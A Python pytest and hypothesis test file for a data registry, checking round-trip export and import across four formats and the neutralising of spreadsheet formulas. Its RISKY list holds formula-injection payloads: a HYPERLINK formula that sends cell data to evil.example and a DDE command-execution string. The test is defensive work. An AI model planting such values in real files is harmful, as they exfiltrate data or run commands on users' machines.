"""Every export imports again: for each kind and format, export then ``import --upsert`` into a
fresh registry gives identical rows.

Registries are generated with hypothesis from the schema tables themselves (a strategy per
column type), so a new column is covered without touching this test; text includes what a
spreadsheet would run (``=HYPERLINK(...)``, ``@``, ``+``, ``-``), quotes, separators,
Cyrillic and line breaks.
"""

from __future__ import annotations

import datetime as dt
import shutil
from pathlib import Path
from typing import Any

import pandas as pd
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from sqlalchemy import Engine

from coopatlas import registry
from coopatlas.registry.formats import Table, read_table, write_table
from coopatlas.registry.kinds import Column, kind
from coopatlas.registry.models import TABLE_OF_KIND

FORMATS = ("csv", "xlsx", "json", "parquet")
GENERATED = ("enterprises", "capabilities", "demands", "trade", "projects", "documents",
             "expansions", "plants")  # fmt: skip
HS = ("72", "7208", "720851", "8701", "870410", "870899")
REGIONS = ("BY-MI", "BY-HM", "RU-LIP", "RU-MOW", "RU-TA")
RISKY = ('=HYPERLINK("http://evil.example/?x="&A1,"click")', "=cmd|' /C calc'!A0", "+1+1",
         "-2+3", "@SUM(A1:A2)", "'quoted", "''twice", "=1;2", 'say "hi", then go',
         "NA", "None", "null", "#N/A", "#REF!", "nan")  # fmt: skip

ALPHABET = st.characters(
    codec="utf-8", exclude_categories=("Cs", "Cc", "Zl", "Zp"), include_characters="\n\r\t"
)


def text(limit: int) -> st.SearchStrategy[str]:
    plain = st.text(ALPHABET, min_size=1, max_size=min(limit, 30))
    return (plain | st.sampled_from(RISKY)).filter(lambda s: s == s.strip() and len(s) <= limit)


def slug() -> st.SearchStrategy[str]:
    return st.from_regex(r"[a-z0-9][a-z0-9._-]{0,12}", fullmatch=True)


def column_values(
    spec: Column, limit: int | None, enterprises: list[str]
) -> st.SearchStrategy[Any]:
    """Values of one column, from its type in the schema table."""
    t = spec.type
    if t == "slug":
        value: st.SearchStrategy[Any] = st.sampled_from(enterprises) if spec.reference else slug()
    elif t == "str":
        value = text(limit or 200)
    elif t in ("float", "int"):
        low = spec.min if spec.min is not None else -1e9
        high = spec.max if spec.max is not None else 1e12
        if t == "int":
            value = st.integers(int(low), int(high))
        else:
            value = st.floats(low, high, allow_nan=False, allow_infinity=False)
    elif t == "date":
        value = st.dates(dt.date(1990, 1, 1), dt.date(2100, 12, 31))
    elif t == "bool":
        value = st.booleans()
    elif t.startswith("enum:"):
        value = st.sampled_from(spec.enum_values)
    elif t == "list":
        pool = enterprises if spec.reference == "enterprises.id" else list(REGIONS)
        value = st.lists(st.sampled_from(pool), max_size=3, unique=True).map("|".join)
    elif t == "region_code":
        value = st.sampled_from(REGIONS)
    elif t in ("hs_code", "hs_or_total"):
        value = st.sampled_from(HS + (("TOTAL",) if t == "hs_or_total" else ()))
    elif t == "place_code":
        value = st.sampled_from(("BY", "RU", "DE", *REGIONS))
    elif t == "country_code":
        value = st.sampled_from(("DE", "CN", "IT"))
    elif t == "currency":
        value = st.sampled_from(("USD", "EUR", "RUB"))
    else:
        raise AssertionError(f"no strategy for column type {t}")
    if spec.required and spec.default is None:
        return value
    return st.none() | value


def rows(name: str, enterprises: list[str]) -> st.SearchStrategy[pd.DataFrame]:
    spec = kind(name)
    table = TABLE_OF_KIND[name]
    columns = {
        c.name: column_values(
            c,
            getattr(table.c[c.name].type, "length", None) if c.name in table.c else None,
            enterprises,
        )
        for c in spec.columns
    }
    record = st.fixed_dictionaries(columns).map(lambda r: FIX.get(name, _same)(r))
    unique = st.lists(record, min_size=1, max_size=4, unique_by=lambda r: tuple(
        str(r[k]) for k in spec.key
    ))  # fmt: skip
    others = [c.name for c in table.c if c.unique and c.name not in spec.key]

    def frame(records: list[dict[str, Any]]) -> pd.DataFrame:
        out = pd.DataFrame(records, columns=list(spec.names)).astype(object)
        for name in others:  # the database keeps these unique too (documents.sha256)
            repeat = out[name].notna() & out[name].duplicated()
            out.loc[repeat, name] = None
        return out

    return unique.map(frame)


def _same(r: dict[str, Any]) -> dict[str, Any]:
    return r


def _capability(r: dict[str, Any]) -> dict[str, Any]:
    if r["output"] is not None:
        r["output"] = min(r["output"], r["capacity"])
    return r


def _demand(r: dict[str, Any]) -> dict[str, Any]:
    r["quantity"] = max(r["quantity"], 0.5)
    if r["buyer_enterprise"] is not None:
        r["buyer_region"] = None  # taken from the enterprise
    elif r["buyer_region"] is None:
        r["buyer_region"] = "RU-LIP"
    return r


def _trade(r: dict[str, Any]) -> dict[str, Any]:
    r["period_start"], r["period_end"] = sorted((r["period_start"], r["period_end"]))
    if r["value"] is not None and r["currency"] is None:
        r["currency"] = "EUR"
    if r["value_usd"] is None and r["value"] is None:
        r["value_usd"] = 1.0
    return r


FIX = {"capabilities": _capability, "demands": _demand, "trade": _trade}


@st.composite
def registries(draw: st.DrawFn) -> dict[str, pd.DataFrame]:
    enterprises = draw(rows("enterprises", ["placeholder"]))
    ids = sorted(enterprises["id"].str.lower().unique())
    world = {"enterprises": enterprises.drop_duplicates("id")}
    for name in GENERATED[1:]:
        world[name] = draw(rows(name, ids))
    return world


def as_table(frame: pd.DataFrame) -> Table:
    """A generated frame as the importer receives a file: cells as text, None for empty."""
    cells = frame.astype(object).map(
        lambda v: None if pd.isna(v) else (v.isoformat() if isinstance(v, dt.date) else str(v))
    )
    return Table(cells.reset_index(drop=True), pd.Series(range(2, len(frame) + 2)))


def fresh(template: Path, folder: Path, name: str) -> Engine:
    target = folder / name
    shutil.copy(template, target)
    return registry.connect(f"sqlite:///{target}")


def exports_equal(a: Engine, b: Engine, name: str) -> None:
    pd.testing.assert_frame_equal(registry.export_frame(a, name), registry.export_frame(b, name))


@pytest.mark.slow
@pytest.mark.parametrize("fmt", FORMATS)
def test_every_kind_round_trips(
    fmt: str, sqlite_template: Path, tmp_path_factory: pytest.TempPathFactory
) -> None:
    @settings(
        max_examples=6,
        deadline=None,
        suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
    )
    @given(world=registries())
    def check(world: dict[str, pd.DataFrame]) -> None:
        folder = tmp_path_factory.mktemp("rt")
        source, target = (
            fresh(sqlite_template, folder, "a.db"),
            fresh(sqlite_template, folder, "b.db"),
        )
        for name in GENERATED:
            registry.import_table(source, name, as_table(world[name]), name)
        for name in GENERATED:
            path = folder / f"{name}.{fmt}"
            write_table(registry.export_frame(source, name), path, fmt)
            result = registry.import_file(target, name, path, upsert=True)
            assert result.rows == len(world[name])
            exports_equal(source, target, name)
        source.dispose()
        target.dispose()

    check()


@pytest.mark.parametrize("fmt", FORMATS)
def test_text_a_reader_could_take_for_missing_stays_text(fmt: str, tmp_path: Path) -> None:
    """pandas reads "NA", "None" or "null" as missing by default, and openpyxl writes "#N/A"
    as an error cell: a source or a name spelled so must come back as written."""
    words = ["NA", "None", "null", "nan", "N/A", "#N/A", "#REF!", "#DIV/0!"]
    frame = pd.DataFrame({"id": [*words, "empty"], "source": [*words, None]}, dtype=object)
    write_table(frame, tmp_path / f"t.{fmt}", fmt)
    back = read_table(tmp_path / f"t.{fmt}").frame.set_index("id")["source"]
    assert list(back[words]) == words
    assert pd.isna(back["empty"])


@pytest.mark.slow
@pytest.mark.parametrize("fmt", FORMATS)
def test_reference_kinds_round_trip(fmt: str, sqlite_url: str, tmp_path: Path) -> None:
    """Regions (with their aliases) and the HS nomenclature export and import unchanged."""
    engine = registry.connect(sqlite_url)
    for name in ("regions", "products"):
        before = registry.export_frame(engine, name)
        path = tmp_path / f"{name}.{fmt}"
        write_table(before, path, fmt)
        result = registry.import_file(engine, name, path, upsert=True)
        assert result.updated == len(before)
        pd.testing.assert_frame_equal(before, registry.export_frame(engine, name))


def test_formula_text_is_written_as_text(sqlite_url: str, tmp_path: Path) -> None:
    """An .xlsx export of =HYPERLINK(...) opens as a text cell and imports back unchanged;
    CSV gets the OWASP leading quote, which the reader removes."""
    from openpyxl import load_workbook

    engine = registry.connect(sqlite_url)
    names = pd.DataFrame({"id": [f"e{i:02d}" for i in range(len(RISKY))], "name_en": list(RISKY),
                          "region": "BY-MI"})  # fmt: skip
    registry.import_table(engine, "enterprises", as_table(names), "names")
    frame = registry.export_frame(engine, "enterprises")
    write_table(frame, tmp_path / "e.xlsx", "xlsx")
    sheet = load_workbook(tmp_path / "e.xlsx").active
    assert sheet is not None
    cells = [sheet.cell(row=r, column=2) for r in range(2, len(RISKY) + 2)]
    assert [c.value for c in cells] == list(RISKY)
    assert all(c.data_type == "s" for c in cells)
    assert all(c.quotePrefix for c in cells if str(c.value)[0] in "=+-@")
    write_table(frame, tmp_path / "e.csv", "csv")
    text = (tmp_path / "e.csv").read_text("utf-8")
    assert "\n=" not in text and ",=" not in text and ',"=' not in text
    assert "'=HYPERLINK" in text
    for path in (tmp_path / "e.xlsx", tmp_path / "e.csv"):
        back = read_table(path).frame
        assert list(back["name_en"]) == list(RISKY)


def test_text_too_long_for_a_cell_is_refused(sqlite_url: str, tmp_path: Path) -> None:
    from coopatlas.registry.formats import FileRejected

    frame = pd.DataFrame({"id": ["a", "b"], "title": ["short", "x" * 100_000]})
    with pytest.raises(FileRejected, match=r"row 3, column 'title': 100,000 characters"):
        write_table(frame, tmp_path / "d.xlsx", "xlsx")
    assert not (tmp_path / "d.xlsx").exists()


@given(st.lists(st.text(ALPHABET, max_size=12) | st.sampled_from(RISKY), max_size=8))
def test_neutralised_text_reads_back_unchanged(values: list[str]) -> None:
    from coopatlas.registry.formats import FORMULA_START, neutralise, unneutralise

    written = neutralise(pd.Series(values, dtype=object))
    assert not any(str(v).startswith(FORMULA_START) for v in written)
    assert list(unneutralise(written.astype("string")).astype(object)) == values


@given(
    st.lists(st.sampled_from(["export", "enterprises", "-", "plan", "solve", "--out", "x"])),
    st.permutations(["--db", "D", "--quiet", "--verbose"]),
)
def test_global_options_move_to_the_front(words: list[str], order: list[str]) -> None:
    from coopatlas.cli import hoist_global_options

    argv = [*words, *order]
    if argv.index("D") != argv.index("--db") + 1:
        argv.remove("D")
        argv.insert(argv.index("--db") + 1, "D")
    hoisted = hoist_global_options(argv)
    assert hoisted[len(hoisted) - len(words) :] == words
    front = hoisted[: len(hoisted) - len(words)]
    assert sorted(front) == sorted(order) and front[front.index("--db") + 1] == "D"
